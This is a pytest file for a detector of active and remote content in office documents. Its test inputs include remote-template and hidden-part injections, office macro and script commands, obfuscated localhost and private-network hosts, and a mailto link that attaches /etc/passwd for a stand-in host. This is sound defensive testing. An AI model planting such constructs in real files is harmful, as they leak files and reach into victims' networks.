"""Relations of office files that are used for something else, and parts in which nobody would look."""

from contextlib import AbstractContextManager, nullcontext

import pytest

import pace
from office_files import XLINK, declared, office
from strategy.checking.attached.active_content import in_document

TYPE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
NAMES = f"xmlns:r='{TYPE}' xmlns:w='w' xmlns:a='a' xmlns:v='v' xmlns:o='o'"
DRAWING = "<svg xmlns='http://www.w3.org/2000/svg'><image href='https://a.example/x.png'/></svg>"
COMMANDS = f"<m {declared('m')}><m:menuitem m:id='vnd.sun.star.script:a.py$run?language=Python' m:label='x'/></m>"


def related(kind: str, target: str, inside: str, mode: str = "Internal", **parts: str | bytes) -> bytes:
    """A text with one relation, rId1."""
    one = f"<Relationship Id='rId1' Type='{TYPE}/{kind}' Target='{target}' TargetMode='{mode}'/>"
    text = {"word/document.xml": f"<w:document {NAMES}>{inside}</w:document>"}
    return office(**text, **{"word/_rels/document.xml.rels": f"<Relationships>{one}</Relationships>"}, **parts)


def opened(inside: str, **parts: str | bytes) -> bytes:
    """A text of OpenDocument."""
    text = f"<x {declared('d', **XLINK)}>{inside}</x>"
    return office(".odt", **{"content.xml": text}, **parts)


@pytest.mark.parametrize(
    "use",
    [
        "<a:blip r:link='rId1'/>",
        "<v:imagedata r:href='rId1'/>",
        "<v:fill o:relid='rId1'/>",
        "<w:attachedTemplate r:id='rId1'/>",
        "<a:videoFile r:link='rId1'/>",
        "<address r:id='rId1'/>",
    ],
)
def test_what_a_reader_may_follow_is_not_fetched(use: str) -> None:
    links = "<w:hyperlink r:id='rId1'/><a:hlinkClick r:id='rId1'/>"
    assert in_document(related("hyperlink", "https://a.example/x", links, "External"), ".docx") is None
    assert in_document(related("hyperlink", "https://a.example/x", links + use, "External"), ".docx")


@pytest.mark.parametrize(
    ("kind", "target", "inside", "part"),
    [
        ("header", "fonts/a.odttf", "<w:headerReference r:id='rId1'/>", "word/fonts/a.odttf"),
        ("font", "fonts/a.odttf", "<w:headerReference r:id='rId1'/>", "word/fonts/a.odttf"),
        ("worksheet", "printerSettings1.bin", "<sheet r:id='rId1'/>", "word/printerSettings1.bin"),
        ("image", "fonts/a.ttf", "<a:blip r:embed='rId1'/>", "word/fonts/a.ttf"),
        ("image", "media/", "<a:blip r:embed='rId1'/>", "word/media/"),
        ("image", "https://a.example/x.png", "", "a.xml"),
        ("header", "fonts/a.odttf#.xml", "", "word/fonts/a.odttf"),
        ("header", "fonts/a.odttf?.xml", "", "word/fonts/a.odttf"),
        ("header", "a.xml", "", "word/_rels/%61.xml.rels"),
        ("workbookmetadata", "metadata", "<sheet r:id='rId1'/>", "xl/metadata"),
    ],
)
def test_no_part_is_drawn_that_nobody_has_looked_at(kind: str, target: str, inside: str, part: str) -> None:
    assert in_document(related(kind, target, inside, **{part: DRAWING.replace("https:", "")}), ".docx")


def test_fonts_and_settings_of_printers_stay() -> None:
    font = related("font", "fonts/a.odttf", "<w:embedRegular r:id='rId1'/>", **{"word/fonts/a.odttf": b"\x8f"})
    printer = related("printerSettings", "a/printerSettings1.bin", "<pageSetup r:id='rId1'/>")
    assert [in_document(one, ".docx") for one in (font, printer)] == [None, None]


@pytest.mark.parametrize(
    "data",
    [
        opened("<d:image l:href='layout-cache'/>", **{"layout-cache": DRAWING}),
        opened("<d:image l:href='a.ttf'/>", **{"a.ttf": DRAWING}),
        opened("<d:image l:href='a.odttf'/>", **{"a.odttf": DRAWING}),
        opened("<d:a l:href='.uno:Quit'/>"),
        opened("<d:form d:datasource='https://a.example/x.odb'/>"),
        opened("<d:button d:image-data='https://a.example/x.png'/>"),
        opened("<d:display d:database-name='https://a.example/x.odb'/>"),
        opened("<d:auto-reload d:delay='PT1S'/>"),
        opened("<d:template l:href='..//a.example/x.ott'/>"),
        opened("<d:template l:href='file:///C:/x.ott'/>"),
        opened("<d:source-service d:name='com.sun.star.x'/>"),
        opened("", **{"xl/metadata": b"x"}),
        opened("<d:image l:href='x.png' xml:base='https://a.example/'/>"),
        opened("", **{"Configurations2/menubar/menubar.xml": COMMANDS}),
    ],
    ids=range(14),
)
def test_nor_a_command_of_the_program_followed(data: bytes) -> None:
    assert in_document(data, ".odt")


@pytest.mark.parametrize(
    "host",
    [
        "127.1",
        "2130706433",
        "0x7f.1",
        "localhost:631",
        "192.168.0.1:81",
        "[::1]",
        "a@192.168.0.1",
        "%6cocalhost",
        "nas_1",
        "a_b.example",
        "a.example:99",
        "",
    ],
)
def test_no_link_leads_where_nobody_can_tell_or_into_the_network_of_who_follows_it(host: str) -> None:
    assert in_document(related("hyperlink", f"http://{host}/", "", "External"), ".docx")


@pytest.mark.parametrize("host", ["a.example:8443", "8.8.8.8", "рада.укр"])
def test_a_link_of_the_web_stays(host: str) -> None:
    assert in_document(related("hyperlink", f"http://{host}/", "", "External"), ".docx") is None


@pytest.mark.parametrize(
    ("address", "is_good"),
    [
        ('"https://www.gov.ua@a.example/"', False),
        ('"https://www.gov.ua"&amp;"@a.example/"', False),
        ('"http://192.168.1.1/"', False),
        ('"mailto:a@a.example?subject=x&amp;attach=/etc/passwd"', False),
        ('"mailto:a@a.example?subject=attach"', True),
        ('"mailto:"&amp;A1,"Написати"', False),
        ('"https://a.example"', True),
        ('"https://a.example/"&amp;A1', True),
    ],
)
def test_a_link_that_a_formula_makes_is_held_against_the_same_rule(address: str, is_good: bool) -> None:
    parts = {"xl/a.xml": f"<x><f>HYPERLINK({address})</f></x>"}
    assert (in_document(office(".xlsx", **parts), ".xlsx") is None) is is_good


@pytest.mark.parametrize(
    "inside",
    [
        "<f>WEB<y xmlns='y'/>SERVICE(1)</f>",
        "<definedName>FILES(1)</definedName>",
        "<definedName>_xlfn.WEBSERVICE</definedName>",
        "<f>INDIRECT(&quot;a.ods#S!A1&quot;)</f>",
        "<f>'a.ods#S'!A1</f>",
        "<webPublishObject destinationFile='a'/>",
        "<Schema SchemaRef='https://a.example/x.xsd'/>",
        "<rect src='https://a.example/'/>",
        "<?xml-stylesheet href='x.xsl'?>",
        "<sp macro=\"'\\\\a.example\\x.xlsm'!M\"/>",
        '<sp macro="x.xlsm!M"/>',
        '<hlinkClick invalidUrl="file:///x.exe"/>',
        "<xsnLocation>https://a.example/x.xsn</xsnLocation>",
    ],
)
def test_what_stands_in_rare_places_is_found(inside: str) -> None:
    assert in_document(office(".xlsx", **{"xl/a.xml": f"<x>{inside}</x>"}), ".xlsx")


def test_what_ordinary_tables_hold_there_stays() -> None:
    inside = '<sp macro=""/><sp macro="[0]!Кнопка1"/><hlinkClick invalidUrl="http://"/><xsnLocation/>'
    assert in_document(office(".xlsx", **{"xl/a.xml": f"<x>{inside}</x>"}), ".xlsx") is None


@pytest.mark.parametrize(
    ("link", "many", "is_plain"),
    [
        (f"<a href='https://{'ї' * 40}.{{}}.укр/'/>", 800, True),
        (f"<f>HYPERLINK(&quot;https://{'ї' * 40}.{{}}.укр/&quot;)</f>", 800, True),
        (f"<f>HYPERLINK(&quot;https://a.ua/{{}}&quot;,&quot;{'a.ua ' * 1500}&quot;)</f>", 450, False),
    ],
)
def test_many_links_are_judged_at_once(link: str, many: int, is_plain: bool) -> None:
    links = "".join(map(link.format, range(many)))
    data = office(**{"word/document.xml": f"<x>{links}</x>"})
    with pace.at_most(2):
        assert (in_document(data, ".docx") is None) is is_plain


@pytest.mark.parametrize(("many", "error"), [(1, nullcontext()), (20, pytest.raises(ValueError))])
def test_small_elements_are_judged_at_once(many: int, error: AbstractContextManager) -> None:
    parts = {f"word/a{number}.xml": f"<a>{'<b/>' * 150_000}</a>" for number in range(many)}
    data = office(**parts)
    with pace.at_most(2), error:
        assert in_document(data, ".docx") is None
